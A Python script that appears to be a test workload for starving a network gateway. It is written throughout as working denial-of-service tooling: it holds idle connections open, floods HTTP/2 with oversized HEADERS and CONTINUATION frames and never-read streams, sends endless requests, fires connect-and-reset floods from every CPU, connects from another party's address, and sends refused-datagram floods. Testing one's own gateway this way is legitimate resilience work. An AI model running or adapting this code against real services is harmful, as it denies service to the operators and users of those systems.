"""What a workload does to take a gateway from others. Raw sockets and HTTP/2 frames made by hand, so
that nothing a client library is careful about stands in the way.

    flood.py idle    HOST PORT COUNT             connections that say nothing, opened again when closed
    flood.py heads   HOST PORT NAME CONNECTIONS STREAMS BYTES
                                                 HTTP/2 streams with large heads, and no reading
    flood.py waves   HOST PORT NAME CONNECTIONS STREAMS BYTES
                                                 the same again and again, from every processor
    flood.py asks    HOST PORT NAME CONNECTIONS  requests without end, each for a host of its own: `*` in NAME
                                                 is a number; from every processor
    flood.py opens   HOST PORT                   connections that are complete, and broken off at once, however
                                                 slowly they are taken, from every processor
    flood.py steals  HOST PORT ADDRESS           connects without end from an address that is another's, from
                                                 every processor
    flood.py unread  HOST PORT NAME PATH CONNECTIONS STREAMS
                                                 HTTP/2 streams whose responses nobody reads
    flood.py silent  HOST PORT                   a server that takes connections and never answers
    flood.py refused HOST PORT                   datagrams that are refused, from every processor

It writes `ready` once everything is under way, and goes on until it is ended. But for `opens`,
which fills a queue only if it is faster than the one who empties it, it takes what nobody else wants of the processors:
what others wait for is then what it did to the product."""

import collections
import os
import select
import selectors
import socket
import struct
import sys
import time


def connect(host, port):
    family = socket.AF_INET6 if ":" in host else socket.AF_INET
    client = socket.socket(family, socket.SOCK_STREAM)
    client.settimeout(2)
    try:
        client.connect((host, port))
    except OSError:
        client.close()
        return None
    client.setblocking(False)
    return client


def is_open(client):
    try:
        return client.recv(1, socket.MSG_PEEK) != b""
    except BlockingIOError:
        return True
    except OSError:
        return False


def give_way():
    # A flood takes what is left of each processor. The kernel may share processors among sessions first, whatever the
    # nice value of a process is (`sched(7)`, the autogroup feature).
    os.nice(19)
    os.setsid()
    try:
        with open("/proc/self/autogroup", "w") as group:
            group.write("19")
    except FileNotFoundError:
        pass


def idle(host, port, count):
    clients, ready = [], False
    while True:
        for client in clients:
            if not is_open(client):
                client.close()
        clients = [client for client in clients if client.fileno() != -1]
        for _ in range(count - len(clients)):
            client = connect(host, port)
            if client is not None:
                clients.append(client)
        if not ready:
            ready = True
            print("ready", flush=True)
        time.sleep(0.05)


def integer(value, bits):
    most = (1 << bits) - 1
    if value < most:
        return bytes([value])
    rest, out = value - most, [most]
    while rest >= 128:
        out.append(rest % 128 + 128)
        rest //= 128
    return bytes(out + [rest])


def field(name, value):
    # A literal field without indexing, with a new name (RFC 7541 section 6.2.2).
    name, value = name.encode(), value.encode()
    return b"\0" + integer(len(name), 7) + name + integer(len(value), 7) + value


def frame(kind, flags, stream, payload):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def head(stream, name, path, size):
    fields = [(":method", "GET"), (":scheme", "http"), (":authority", name), (":path", path)]
    while size > 0:
        fields.append((f"x-{size}", "a" * min(size, 8000)))
        size -= 8000
    block = b"".join(field(*pair) for pair in fields)
    pieces = [block[at:at + 16384] for at in range(0, len(block), 16384)]
    # HEADERS with END_STREAM, then CONTINUATION; the last one has END_HEADERS.
    frames = []
    for index, piece in enumerate(pieces):
        flags = (1 if index == 0 else 0) | (4 if index == len(pieces) - 1 else 0)
        frames.append(frame(1 if index == 0 else 9, flags, stream, piece))
    return b"".join(frames)


def start(host, port, name, path, streams, size):
    client = connect(host, port)
    if client is None:
        return None, b""
    # Every window as large as may be: what is not read waits at the other end.
    settings = struct.pack(">HI", 4, 0x7FFFFFFF)
    out = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, settings) + frame(4, 1, 0, b"")
    out += frame(8, 0, 0, struct.pack(">I", 0x7FFFFFFF - 65535))
    for number in range(streams):
        out += head(2 * number + 1, name, path, size)
    return client, out


def send_all(clients):
    """As much as the other end takes, whoever it closes."""
    waits = 0
    while any(out for _, out in clients) and waits < 40:
        moved = False
        for pair in clients:
            try:
                sent = pair[0].send(pair[1]) if pair[1] else 0
                pair[1] = pair[1][sent:]
                moved = moved or sent > 0
            except BlockingIOError:
                pass
            except OSError:
                pair[1] = b""
        if moved:
            waits = 0
        else:
            waits += 1
            time.sleep(0.05)


def wave(host, port, name, path, connections, count, size):
    clients = []
    for _ in range(connections):
        client, out = start(host, port, name, path, count, size)
        if client is not None:
            clients.append([client, out])
    send_all(clients)
    return clients


def streams(*args):
    clients = wave(*args)
    print("ready", flush=True)
    while clients:
        time.sleep(1)


def on_every_processor():
    """Goes on once on each; whether this is the one that says that it is ready."""
    cpus = sorted(os.sched_getaffinity(0))
    for cpu in cpus[1:]:
        if os.fork() == 0:
            os.sched_setaffinity(0, {cpu})
            return False
    os.sched_setaffinity(0, {cpus[0]})
    return True


def waves(*args):
    first, parent = on_every_processor(), os.getppid()
    while os.getppid() == parent:
        for client, _ in wave(*args):
            client.close()
        if first:
            first = False
            print("ready", flush=True)


def asks(host, port, name, connections):
    first, parent, number, answers = on_every_processor(), os.getppid(), os.getpid() << 32, 0
    waiting, poll = {}, select.poll()
    while os.getppid() == parent:
        while len(waiting) < connections:
            client = connect(host, port)
            if client is None:
                break
            waiting[client.fileno()] = client
            poll.register(client, select.POLLOUT)
        for file, event in poll.poll(1000):
            client = waiting[file]
            try:
                # An answer that ends the connection, or not: the next request asks for another host.
                if event & select.POLLIN and client.recv(65536) == b"":
                    raise OSError
                number += 1
                answers += event & select.POLLIN != 0
                asked = name.replace("*", str(number))
                client.send(f"GET /{number} HTTP/1.1\r\nHost: {asked}\r\n\r\n".encode())
                poll.modify(client, select.POLLIN)
            except OSError:
                answers += 1
                poll.unregister(client)
                del waiting[file]
                client.close()
        if first and answers > 1000:
            first = False
            print("ready", flush=True)


def opens(host, port):
    first, parent, count = on_every_processor(), os.getppid(), 0
    family = socket.AF_INET6 if ":" in host else socket.AF_INET
    under_way, at_once = collections.deque(), struct.pack("ii", 1, 0)
    while os.getppid() == parent:
        client = socket.socket(family)
        client.setblocking(False)
        client.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, at_once)
        client.connect_ex((host, port))
        under_way.append(client)
        if len(under_way) > 100:
            under_way.popleft().close()
        count += 1
        if first and count % 5000 == 0:
            print("ready", flush=True)


def steals(host, port, address):
    first, parent, count = on_every_processor(), os.getppid(), 0
    while os.getppid() == parent:
        thief = socket.socket()
        thief.setblocking(False)
        thief.bind((address, 0))
        thief.connect_ex((host, port))
        thief.close()
        count += 1
        if first and count == 20000:
            print("ready", flush=True)


def silent(host, port):
    server = socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET, socket.SOCK_STREAM)
    server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    server.bind((host, port))
    server.listen(4096)
    server.setblocking(False)
    print("ready", flush=True)
    waiting, held = selectors.DefaultSelector(), []
    waiting.register(server, selectors.EVENT_READ)
    while True:
        waiting.select()
        try:
            held.append(server.accept()[0])
        except OSError:
            time.sleep(0.05)


def refused(host, port):
    first, parent, count = on_every_processor(), os.getppid(), 0
    sender = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    while os.getppid() == parent:
        try:
            sender.sendto(b"x", (host, port))
            sys.exit("nobody refused it")
        except PermissionError:
            count += 1
        if first and count == 20000:
            print("ready", flush=True)


kind, host, port, *rest = sys.argv[1:]
port = int(port)
if kind != "opens":
    give_way()
if kind == "idle":
    idle(host, port, int(rest[0]))
elif kind == "heads":
    streams(host, port, rest[0], "/", int(rest[1]), int(rest[2]), int(rest[3]))
elif kind == "waves":
    waves(host, port, rest[0], "/", int(rest[1]), int(rest[2]), int(rest[3]))
elif kind == "asks":
    asks(host, port, rest[0], int(rest[1]))
elif kind == "opens":
    opens(host, port)
elif kind == "steals":
    steals(host, port, rest[0])
elif kind == "unread":
    streams(host, port, rest[0], rest[1], int(rest[2]), int(rest[3]), 0)
elif kind == "silent":
    silent(host, port)
elif kind == "refused":
    refused(host, port)
else:
    sys.exit(f"what is {kind}?")
